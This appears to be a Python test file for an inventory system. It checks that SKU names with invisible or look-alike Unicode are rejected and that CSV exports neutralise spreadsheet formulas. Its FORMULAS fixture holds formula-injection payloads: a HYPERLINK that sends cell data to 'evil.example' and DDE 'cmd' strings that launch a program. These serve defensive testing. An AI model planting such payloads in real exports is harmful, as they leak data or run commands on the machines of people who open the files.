"""What is one SKU and what is two, and that a spreadsheet shows what others wrote instead of running it."""

from __future__ import annotations

import ast
import csv
import io
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels import listings
from channels.edi.shipping import NotToNotice, read_packing
from console.access.types import Unfit
from console.cli import spreadsheet
from console.verbs import book
from ledger.names import as_text, as_written, fault_of
from reconcile.counting import file
from tests.builders import a_house
from tests.console.command import lockstep, surroundings
from tests.servers import Database

ROOT = Path(__file__).resolve().parents[2]
COMPOSED, APART = "caf\u00e9", "cafe\u0301"
#: Two writings that no eye tells apart, or one that shows another order than it has.
UNSEEN = [
    APART,
    "MUG\u200b",
    "MUG\u200dRED",
    "\u2060MUG",
    "MUG\ufeff",
    "MUG\u00ad",
    "MUG\u202eDER",
    "MUG\u2066RED",
    "MUG\u00a0RED",
    "MUG\u3000RED",
    "MUG\u2028RED",
    "MUG\ue000",
    "MUG\ufffe",
    "\u212b",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "'=1",
    "''=1",
]
PLAIN = ["MUG", "'tis", "-3", "1=1", "", "-1.50", "a@b.example"]


@pytest.mark.parametrize("name", UNSEEN)
def test_what_differs_in_what_nobody_sees_does_not_become_a_second_sku(
    database: Database, name: str
) -> None:
    house = a_house(database.engine)

    with pytest.raises(Unfit, match=r"U\+|normal form C"):
        book.add_skus(house, ["GOOD", name], "")
    with pytest.raises(Unfit):
        book.add_locations(house, [name], "store")

    with database.engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM sku").scalar_one() == 0


@pytest.mark.parametrize(
    "name", ["", " MUG", "MUG ", "A\x00B", "A\x1b[2J", "A\nB", "x" * 129, "\ud800"]
)
def test_what_is_no_name_does_not_become_one(name: str) -> None:
    assert fault_of(name)


@pytest.mark.parametrize(
    "name", [COMPOSED, "MUG RED", "שלום", "\u039c\u03a5\u0393", "マグ", "a'b\"c;--", "\U0001f375"]
)
def test_any_script_and_any_mark_that_is_seen_is_a_name(name: str) -> None:
    assert fault_of(name) == ""


def test_case_and_look_alikes_are_skus_of_their_own(database: Database) -> None:
    names = ["MUG", "mug", "\u039c\u03a5\u0393", "M\u0421G", "\uff2d\uff35\uff27"]

    book.add_skus(a_house(database.engine), names, "")

    with database.engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM sku").scalar_one() == len(names)


def test_the_command_line_says_which_character_it_is(database: Database) -> None:
    refused = lockstep("catalogue", "add-sku", "MUG\u200b", environment=surroundings(database))

    assert refused.code == 1
    assert "U+200B ZERO WIDTH SPACE" in refused.err


@given(st.text(max_size=40))
def test_a_name_without_fault_is_one_writing_only(name: str) -> None:
    if not fault_of(name):
        assert unicodedata.normalize("NFC", name) == name
        assert name.isprintable()


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text_and_is_read_back_as_it_was(cell: str) -> None:
    shown = as_text(cell)

    assert shown.startswith("'")
    assert as_written(shown) == cell


@pytest.mark.parametrize("cell", [*PLAIN, 5, -5, None, 1.5])
def test_what_is_no_formula_stays_as_it_is(cell: object) -> None:
    assert as_text(cell) == cell


@given(st.text(alphabet="'=+-@\t\r1a ", max_size=8))
def test_every_text_comes_back_from_a_sheet(cell: str) -> None:
    assert as_written(as_text(cell)) in (cell, as_written(cell))
    if as_text(cell) != cell:
        assert as_written(as_text(cell)) == cell


def test_an_export_runs_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    spreadsheet.write(["sku", "units"], [{"sku": cell, "units": -1} for cell in FORMULAS])

    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))[1:]
    assert len(rows) == len(FORMULAS)
    assert all(sku.startswith("'") for sku, _ in rows)
    assert {units for _, units in rows} == {"-1"}


def test_nothing_of_ours_writes_csv_by_another_way() -> None:
    """A new export that forgot the apostrophe would be found here."""
    writers = {
        str(path.relative_to(ROOT))
        for room in ("ledger", "allocation", "channels", "reconcile", "workers", "console")
        for path in (ROOT / room).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and node.attr in ("DictWriter", "writer")
        if isinstance(node.value, ast.Name) and node.value.id == "csv"
    }

    assert writers - {"console/cli/spreadsheet.py"} == set()


def test_a_count_sheet_with_such_a_sku_is_taken_as_it_was_given_out() -> None:
    sheet = file.read("sku,location,counted\n'=SKU,WH,3\n'tis,WH,1\n")

    assert [line.sku for line in sheet.lines] == ["=SKU", "'tis"]


def test_a_mapping_file_that_is_no_csv_says_so() -> None:
    assert "not CSV" in listings.read('"' + "x" * 200_000).problems[0]
    assert "not CSV" in listings.read("listing,sku\n" + "x" * 200_000).problems[0]


def test_zeros_in_front_do_not_make_a_pack_another_size() -> None:
    read = listings.read("listing,sku,units\nA,MUG,00000000123\n")

    assert read.parts["A"][0].units == 123


@pytest.mark.parametrize(
    "quantity", ["1234567890123", "0", "000", "1e3", "-1", "\u0661", "9" * 5000]
)
def test_a_quantity_of_a_packing_list_is_never_cut_to_fit(quantity: str) -> None:
    with pytest.raises(NotToNotice, match="no quantity"):
        read_packing(f"carton,line,quantity\nC1,1,{quantity}\n")
